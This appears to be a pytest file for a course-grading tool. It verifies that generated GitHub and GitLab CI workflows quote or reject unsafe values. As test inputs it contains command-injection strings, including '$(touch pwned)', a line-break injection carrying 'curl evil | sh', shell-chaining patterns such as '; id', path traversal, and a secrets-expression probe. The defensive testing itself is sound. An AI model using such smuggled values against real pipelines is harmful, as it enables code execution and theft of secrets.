"""Kit files quote every value for where it lands: a value holding quotes, a command or a
semicolon stays one YAML string or one shell word, and one that cannot (a line break, a pattern
the shell would not take literally) is refused."""

from __future__ import annotations

import shlex
from importlib import resources

import pytest
import yaml
from jinja2 import nodes

from grader.instructor.ci import WorkflowSettings, render_workflow
from grader.instructor.release import KIT, QUOTING, fill_kit, kit_source

KIT_FILES = sorted(entry.name for entry in resources.files("grader.instructor").joinpath("kit").iterdir() if entry.is_file())
HOSTILE = "a b\"'$(touch pwned); `id` #: x"


@pytest.mark.parametrize("name", KIT_FILES)
def test_every_value_in_a_kit_file_passes_a_quoting_filter(name: str) -> None:
    outputs = [node for output in KIT.parse(kit_source(name)).find_all(nodes.Output) for node in output.nodes if not isinstance(node, nodes.TemplateData)]
    assert outputs, f"{name} has no values"
    unquoted = [node for node in outputs if not (isinstance(node, nodes.Filter) and node.name in QUOTING)]
    assert not unquoted, f"{name}: values without a quoting filter at lines {[node.lineno for node in unquoted]}"


def _run_lines(document: dict) -> list[str]:
    """Every shell line of a workflow (GitHub's steps, GitLab's scripts)."""
    steps = [step.get("run", "") for job in document.get("jobs", {}).values() for step in job["steps"]]
    scripts = [line for job in document.values() if isinstance(job, dict) for key in ("before_script", "script") for line in job.get(key, [])]
    return [line for text in steps + scripts for line in text.replace("\\\n", " ").splitlines()]


@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_hostile_folder_and_package_stay_one_yaml_string_and_one_shell_word(provider: str) -> None:
    document = yaml.safe_load(render_workflow(provider, "class", WorkflowSettings(package=HOSTILE, submissions=HOSTILE)))
    lines = _run_lines(document)
    installs = [shlex.split(line) for line in lines if line.startswith("pip install -q") and "torch" not in line]
    assert installs == [["pip", "install", "-q", HOSTILE]]
    grading = next(shlex.split(line) for line in lines if "--sandbox" in line)
    assert grading[grading.index("--sandbox") - 1] == HOSTILE
    # (PyYAML reads GitHub's key `on` as true, as YAML 1.1 does)
    changes = document[True]["push"]["paths"] if provider == "github" else document["grade-class"]["rules"][1]["changes"]
    assert changes == [f"{HOSTILE}/**" if provider == "github" else f"{HOSTILE}/**/*"]


@pytest.mark.parametrize("value", ["a\nrun: evil", "a\rb", "a\x1b[2J", "a\u2028- curl evil | sh", "a\x85b", "a\u2029b", "a\u202eb"])
def test_a_value_that_would_open_a_line_is_refused(value: str) -> None:
    """YAML breaks lines at U+0085, U+2028 and U+2029 too."""
    with pytest.raises(ValueError, match="line break or a control character"):
        render_workflow("github", "class", WorkflowSettings(submissions=value))


@pytest.mark.parametrize("pattern", ["*.ipynb; id", "$(id).ipynb", "../x.ipynb", "a b.ipynb"])
def test_a_notebook_pattern_the_shell_would_not_take_literally_is_refused(pattern: str) -> None:
    with pytest.raises(ValueError, match="as a pattern"):
        render_workflow("gitlab", "practice", WorkflowSettings(notebooks=(pattern,)))


def test_the_autograder_script_quotes_each_option() -> None:
    script = fill_kit("run_autograder", {"options": ["--part", "explicit; id"]})
    assert shlex.split(script.splitlines()[-1])[-2:] == ["--part", "explicit; id"]


def test_a_kit_file_and_its_caller_must_name_the_same_values() -> None:
    with pytest.raises(KeyError, match="takes"):
        fill_kit("run_autograder", {"options": [], "extra": 1})


def test_a_github_expression_in_a_value_is_refused() -> None:
    with pytest.raises(ValueError, match="GitHub Actions would evaluate"):
        render_workflow("github", "class", WorkflowSettings(package="x${{ secrets.GRADER_SPLIT_SEED }}"))
